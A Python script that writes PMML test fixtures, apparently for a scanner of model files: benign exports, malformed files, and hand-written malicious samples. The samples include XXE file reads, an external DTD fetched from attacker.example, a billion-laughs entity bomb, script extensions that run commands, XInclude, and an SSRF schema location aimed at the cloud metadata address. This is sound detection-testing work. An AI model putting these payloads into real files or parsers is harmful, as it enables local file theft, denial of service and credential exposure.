#!/usr/bin/env python3
"""Writes the PMML fixtures under testdata/pmml/.

benign/decision-tree-nyoka.pmml is written by nyoka 5.5.0 (the Python PMML exporter) from a
scikit-learn 1.9.1 decision tree fitted on fixed data; its `Timestamp` is fixed afterwards so that
re-running gives the same bytes. benign/sklearn2pmml-layout.pmml follows the layout SkLearn2PMML
writes (a `repr` Extension holding the pipeline's Python repr, a DefineFunction that an Apply
calls by a dotted name, the Data Mining Group's schema location): the shapes that must not raise
alarms. Malicious and malformed documents are written by hand after the PMML 4.4 schema. Nothing
here evaluates a model; every payload is inert (`id`, `true`, `file:///etc/hostname`).

Usage: python -P testdata/generate/pmml.py   (from the repository root)
Needs: pip install nyoka==5.5.0 scikit-learn==1.9.1
"""

import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "pmml"

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
NS = 'xmlns="http://www.dmg.org/PMML-4_4" version="4.4"'
DICT = """  <Header copyright="modelgate fixtures"><Application name="modelgate fixture" version="1"/></Header>
  <DataDictionary numberOfFields="2">
    <DataField name="x" optype="continuous" dataType="double"/>
    <DataField name="y" optype="continuous" dataType="double"/>
  </DataDictionary>
"""
REGRESSION = """  <RegressionModel functionName="regression">
    <MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema>
    <RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable>
  </RegressionModel>
"""


def pmml(body, prolog="", root_attrs=NS):
    return (HEAD + prolog + f"<PMML {root_attrs}>\n" + DICT + body + REGRESSION + "</PMML>\n").encode()


def nyoka_tree():
    from nyoka import skl_to_pmml
    from sklearn.pipeline import Pipeline
    from sklearn.tree import DecisionTreeClassifier

    X = [[0.0, 1.0], [1.0, 0.0], [0.5, 0.5], [0.9, 0.1], [0.1, 0.8], [0.7, 0.3]]
    y = ["a", "b", "a", "b", "a", "b"]
    import pandas as pd

    frame = pd.DataFrame(X, columns=["f0", "f1"])
    pipe = Pipeline([("tree", DecisionTreeClassifier(max_depth=2, random_state=0))])
    pipe.fit(frame, y)
    tmp = OUT / "benign" / "decision-tree-nyoka.pmml"
    skl_to_pmml(pipe, ["f0", "f1"], "label", str(tmp))
    text = tmp.read_text()
    text = re.sub(r"<Timestamp>.*?</Timestamp>", "<Timestamp>2026-01-01 00:00:00</Timestamp>", text, flags=re.S)
    tmp.write_text(text)


SKLEARN2PMML = HEAD + """<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd" version="4.4">
  <Header>
    <Application name="SkLearn2PMML package" version="0.110.0"/>
    <Timestamp>2026-01-01T00:00:00Z</Timestamp>
  </Header>
  <MiningBuildTask>
    <Extension name="repr">PMMLPipeline(steps=[('regressor', LinearRegression())])</Extension>
  </MiningBuildTask>
  <DataDictionary>
    <DataField name="x" optype="continuous" dataType="double"/>
    <DataField name="y" optype="continuous" dataType="double"/>
  </DataDictionary>
  <TransformationDictionary>
    <DefineFunction name="sklearn2pmml.scale" optype="continuous" dataType="double">
      <ParameterField name="v" dataType="double"/>
      <Apply function="*"><FieldRef field="v"/><Constant dataType="double">2.0</Constant></Apply>
    </DefineFunction>
    <DerivedField name="scaled_x" optype="continuous" dataType="double">
      <Apply function="sklearn2pmml.scale"><FieldRef field="x"/></Apply>
    </DerivedField>
  </TransformationDictionary>
  <RegressionModel functionName="regression" algorithmName="sklearn.linear_model._base.LinearRegression">
    <MiningSchema><MiningField name="y" usageType="target"/><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="0.25"><NumericPredictor name="scaled_x" coefficient="1.5"/></RegressionTable>
  </RegressionModel>
</PMML>
"""

MALICIOUS = {
    # XXE: an external entity naming a local file, used in an attribute and in content.
    "xxe-file-entity.pmml": pmml(
        '  <Extension name="note">&xxe;</Extension>\n',
        prolog='<!DOCTYPE PMML [\n  <!ENTITY xxe SYSTEM "file:///etc/hostname">\n]>\n',
    ),
    # XXE out of band: an external DTD and a parameter entity fetched over HTTP.
    "xxe-external-dtd.pmml": pmml(
        "",
        prolog='<!DOCTYPE PMML SYSTEM "http://attacker.example/pmml.dtd" [\n  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n  %remote;\n]>\n',
    ),
    # Entity expansion ("billion laughs"): nested internal entities.
    "entity-expansion-bomb.pmml": pmml(
        '  <Extension name="note">&lol4;</Extension>\n',
        prolog="<!DOCTYPE PMML [\n"
        + '  <!ENTITY lol "lol">\n'
        + "".join(f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 5))
        + "]>\n",
    ),
    # A script extension calling process execution (Java, through a JavaScript engine).
    "extension-javascript-exec.pmml": pmml(
        '  <Extension name="script" extender="scoring-engine">\n'
        '    <Script language="javascript"><![CDATA[java.lang.Runtime.getRuntime().exec("id")]]></Script>\n'
        "  </Extension>\n"
    ),
    # A Python extension running a command.
    "extension-python-exec.pmml": pmml(
        '  <Extension name="python" value="import os; os.system(\'true\')"/>\n'
    ),
    # XInclude pulling a local file into the document.
    "xinclude-local-file.pmml": pmml(
        '  <Extension name="note"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/></Extension>\n'
    ),
    # A Java user-defined function by class name (JPMML loads it from the class path).
    "java-udf-class.pmml": pmml(
        '  <TransformationDictionary>\n'
        '    <DerivedField name="z" optype="continuous" dataType="double">\n'
        '      <Apply function="com.example.udf.RunCommand"><FieldRef field="x"/></Apply>\n'
        "    </DerivedField>\n"
        "  </TransformationDictionary>\n"
    ),
    # A schema location a validating reader fetches (server-side request forgery).
    "schema-location-ssrf.pmml": pmml(
        "",
        root_attrs=NS
        + ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://169.254.169.254/latest/meta-data/pmml.xsd"',
    ),
}

MALFORMED = {
    "truncated.pmml": pmml("")[:300],
    "not-xml.pmml": b"this is not a PMML document\n",
    "utf16.pmml": pmml("").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
    "undeclared-entity.pmml": pmml('  <Extension name="note">&missing;</Extension>\n'),
    "wrong-root.pmml": (HEAD + "<Model><RegressionModel/></Model>\n").encode(),
    "mismatched-tags.pmml": pmml("  <Extension><Other></Extension></Other>\n"),
}


def main():
    for kind in ("benign", "malicious", "malformed"):
        (OUT / kind).mkdir(parents=True, exist_ok=True)
    try:
        nyoka_tree()
    except ImportError as e:
        sys.exit(f"needs nyoka and scikit-learn: {e}")
    (OUT / "benign" / "sklearn2pmml-layout.pmml").write_text(SKLEARN2PMML)
    (OUT / "benign" / "regression-plain.pmml").write_bytes(pmml(""))
    for name, data in MALICIOUS.items():
        (OUT / "malicious" / name).write_bytes(data)
    for name, data in MALFORMED.items():
        (OUT / "malformed" / name).write_bytes(data)


if __name__ == "__main__":
    main()
